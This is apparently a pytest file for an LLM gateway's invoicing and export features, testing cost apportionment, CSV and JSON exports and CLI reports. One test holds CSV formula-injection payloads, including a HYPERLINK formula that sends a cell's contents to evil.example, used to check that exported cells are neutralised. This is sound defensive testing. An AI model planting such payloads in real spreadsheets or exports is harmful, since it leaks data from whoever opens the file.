"""Invoices: per-group lines whose costs add up exactly to the ledger's month, amounts due in
cents by the largest-remainder rule; and the `report` / `export` commands."""

from __future__ import annotations

import csv
import io
import random
import time
from decimal import Decimal

import openai

from tallygate.analytics.invoice import apportion, invoice_csv
from tests.gateway import Gateway

HELLO = [{"role": "user", "content": "bill me"}]


def traffic(gateway: Gateway) -> None:
    for customer, n, model in (("acme", 3, "priced"), ("globex", 2, "gpt-4o-mini"), (None, 2, "local-llama")):
        key = gateway.create_key(f"inv-{customer}", **({"customer_id": customer} if customer else {}))
        with openai.OpenAI(base_url=gateway.base_url, api_key=key, max_retries=0) as client:
            ids = [client.chat.completions.create(model=model, messages=HELLO).id for _ in range(n)]
        gateway.log_record(ids[-1])


def month_now() -> str:
    return time.strftime("%Y-%m", time.gmtime())


def test_invoice_lines_add_up_to_the_ledger_total_for_the_month(gateway: Gateway) -> None:
    traffic(gateway)
    month = month_now()
    status, doc = gateway.get(f"/v1/analytics/export?month={month}&group_by=label.customer_id&markup=0.20")
    assert status == 200, doc
    ledger = gateway.ledger_rows()
    total_pico = sum(r["cost_pico"] for r in ledger)
    lines = {line["group"]["label.customer_id"]: line for line in doc["lines"]}
    assert set(lines) == {"acme", "globex", None} and lines["acme"]["requests"] == 3
    assert sum(Decimal(line["cost"]) for line in doc["lines"]) == Decimal(total_pico) / 10**12
    assert Decimal(doc["totals"]["cost"]) == Decimal(total_pico) / 10**12
    assert doc["totals"]["requests"] == len(ledger)
    assert sum(Decimal(line["amount_due"]) for line in doc["lines"]) == Decimal(doc["totals"]["amount_due"])
    exact_total = Decimal(total_pico) / 10**12 * Decimal("1.2")
    assert abs(Decimal(doc["totals"]["amount_due"]) - exact_total) <= Decimal("0.005")
    for line in doc["lines"]:
        exact = Decimal(line["cost"]) * Decimal("1.2")
        assert Decimal(line["markup"]) == Decimal(line["cost"]) * Decimal("0.2")
        assert abs(Decimal(line["amount_due"]) - exact) < Decimal("0.01")

    status, headers, body = gateway.request("GET", f"/v1/analytics/export?month={month}"
                                                   "&group_by=label.customer_id&markup=0.20&format=csv")
    assert status == 200 and headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(body.decode())))
    assert table[-1]["line"] == "total" and table[-1]["amount_due_usd"] == doc["totals"]["amount_due"]
    assert [r["label.customer_id"] for r in table[:-1]] == [line["group"]["label.customer_id"] or ""
                                                             for line in doc["lines"]]
    assert sum(Decimal(r["cost_usd"]) for r in table[:-1]) == Decimal(table[-1]["cost_usd"])

    status, empty = gateway.get("/v1/analytics/export?month=2001-01&group_by=key")
    assert status == 200 and empty["lines"] == [] and empty["totals"]["amount_due"] == "0.00"


def test_largest_remainder_keeps_every_line_within_a_cent_and_the_sum_exact() -> None:
    # Three lines of a third of a cent each: rounding each line alone would bill 0 cents of 1.
    due, total = apportion([3_333_333_333] * 3, Decimal(0))
    assert total == 1 and sorted(due) == [0, 0, 1]
    rng = random.Random(3)
    for _ in range(200):
        costs = [rng.randrange(0, 10**13) for _ in range(rng.randrange(1, 30))]
        rate = Decimal(rng.randrange(0, 500)) / 1000
        due, total = apportion(costs, rate)
        assert sum(due) == total
        for cost, cents in zip(costs, due, strict=True):
            assert abs(Decimal(cents) - Decimal(cost) * (1 + rate) / 10**10) < 1


def test_report_prints_a_table_and_export_writes_the_invoice_csv(gateway: Gateway, tmp_path) -> None:  # type: ignore[no-untyped-def]
    traffic(gateway)
    out = gateway.cli("report", "--group-by", "label.customer_id", "--month", month_now())
    assert out.returncode == 0, out.stderr
    lines = out.stdout.splitlines()
    assert lines[0].split()[:3] == ["label.customer_id", "requests", "errors"]
    assert any(line.startswith("acme ") for line in lines) and lines[-1].startswith("TOTAL")
    out = gateway.cli("report", "--group-by", "tag,label.x", "--month", month_now())
    assert out.returncode == 0 and "TOTAL (each request once)" in out.stdout and "rows overlap" in out.stdout
    target = tmp_path / "invoice.csv"
    out = gateway.cli("export", "--month", month_now(), "--group-by", "label.customer_id", "--markup", "0.2",
                      "-o", str(target))
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(target.open()))
    assert rows[-1]["line"] == "total" and {"acme", "globex"} <= {r["label.customer_id"] for r in rows}
    out = gateway.cli("report", "--group-by", "colour")
    assert out.returncode != 0 and "unknown dimension 'colour'" in out.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def test_exported_csv_cells_never_start_like_a_formula(gateway: Gateway, tmp_path) -> None:  # type: ignore[no-untyped-def]
    for value in [*FORMULAS, "-5", "plain"]:
        key = gateway.create_key("csv-inj", customer=value)
        with openai.OpenAI(base_url=gateway.base_url, api_key=key, max_retries=0) as client:
            last = client.chat.completions.create(model="priced", messages=HELLO).id
    gateway.log_record(last)
    query = f"month={month_now()}&group_by=label.customer&markup=0.2"
    status, doc = gateway.get(f"/v1/analytics/export?{query}")
    assert status == 200
    raw = {line["group"]["label.customer"] for line in doc["lines"]}
    assert {*FORMULAS, "-5", "plain"} <= raw  # the JSON export keeps the values as they are

    status, _, body = gateway.request("GET", f"/v1/analytics/export?{query}&format=csv")
    assert status == 200
    target = tmp_path / "invoice.csv"
    out = gateway.cli("export", "--month", month_now(), "--group-by", "label.customer", "--markup", "0.2",
                      "-o", str(target))
    assert out.returncode == 0, out.stderr
    for text in (body.decode(), target.read_text(encoding="utf-8")):
        table = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in table for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        groups = {row[1] for row in table[1:-1]}
        assert {"'" + v for v in FORMULAS} <= groups and "'-5" in groups and "plain" in groups
        for row in table[1:]:  # numbers stay numbers
            assert all(Decimal(c) >= 0 for c in row[2:]), row


def test_csv_cells_starting_with_a_tab_or_carriage_return_are_neutralised_too() -> None:
    # Labels refuse control characters, so these reach the CSV writer only from other dimensions.
    doc = {"group_by": ["\tdim"], "lines": [{"group": {"\tdim": "\r=1+1"}, "requests": 1, "cost": "0.5",
                                              "markup": "0", "amount_due": "0.50",
                                              **dict.fromkeys(("input_tokens", "output_tokens", "cached_tokens",
                                                               "cache_write_tokens", "reasoning_tokens"), 0)}]}
    doc["totals"] = {**doc["lines"][0], "cost": "-0.5", "markup": "=1"}
    header, line, total = csv.reader(io.StringIO(invoice_csv(doc), newline=""))
    assert header[1] == "'\tdim" and line[1] == "'\r=1+1"
    assert total[8:10] == ["-0.5", "'=1"]  # a plain negative number stays a number; a formula does not
